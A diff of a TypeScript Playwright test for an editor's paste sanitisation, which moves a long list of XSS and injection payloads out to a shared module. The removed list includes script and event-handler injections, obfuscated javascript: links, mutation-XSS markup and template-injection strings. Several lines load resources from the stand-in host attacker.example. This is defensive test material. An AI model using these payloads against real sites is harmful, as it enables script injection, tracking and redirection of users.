@@ -1,51 +1,8 @@
 import assert from "node:assert/strict";
 import type { Page } from "playwright-core";
+import { attacks, run } from "../../attacks.ts";
 import { ada, stepTo, type TabRig } from "../rig.ts";
 import { paste } from "./pasting.ts";
-
-const elsewhere = "https://attacker.example";
-const run = "window.pwned=1,alert(1)";
-
-/** Each tries to run `run` or to fetch something from elsewhere, in a title, a tag, a name or Markdown. */
-const attacks: readonly string[] = [
-  `<script>${run}</script>`,
-  `<script src="${elsewhere}/a.js"></script>`,
-  `<img src=x onerror="${run}">`,
-  `<img src="${elsewhere}/tracker.gif" srcset="${elsewhere}/2x.gif 2x">`,
-  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
-  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
-  `<iframe src="javascript:${run}" srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<object data="${elsewhere}/a.swf"></object><embed src="${elsewhere}/a.swf">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<details open ontoggle="${run}"><summary>x</summary></details>`,
-  `<form action="${elsewhere}"><input name=a autofocus onfocus="${run}"><button>Go</button></form>`,
-  `<base href="${elsewhere}/"><link rel=stylesheet href="${elsewhere}/a.css"><meta http-equiv=refresh content="0;url=${elsewhere}">`,
-  `<style>@import "${elsewhere}/a.css"; body { background: url(${elsewhere}/b.png) }</style>`,
-  `<a href="javascript:${run}" onmouseover="${run}">hover</a>`,
-  `[click](javascript:${run})`,
-  `[click](JaVaScRiPt:${run})`,
-  `[click](java&#x09;script:${run})`,
-  `[click](&#106;avascript:${run})`,
-  `[click](vbscript:${run})`,
-  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
-  `[click](<javascript:${run}> "title")`,
-  `[click][ref]\n\n[ref]: javascript:${run}`,
-  `<javascript:${run}>`,
-  `![tracker](${elsewhere}/tracker.gif)`,
-  `![" onerror="${run}](x "' onerror='${run}")`,
-  `![x](javascript:${run})`,
-  `![x](data:image/svg+xml,<svg onload=${run}>)`,
-  `[![x](${elsewhere}/tracker.gif)](javascript:${run})`,
-  `[x](//attacker.example/path)`,
-  `[x](https://user@attacker.example)`,
-  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
-  `\`<img src=x onerror="${run}">\``,
-  `| <script>${run}</script> | [x](javascript:${run}) |\n| --- | --- |\n| <img src=x onerror="${run}"> | ![x](${elsewhere}/t.gif) |`,
-  `- [x] <input onfocus="${run}" autofocus>`,
-  `x[^1]\n\n[^1]: [click](javascript:${run})`,
-  `{{constructor.constructor("${run}")()}} \${${run}} $t(app.name) {{name}}`,
-  `__proto__ constructor toString`,
-];
 
 /** Shown as they were typed; with them in one text all others would be, too. */
 const costly: readonly string[] = [
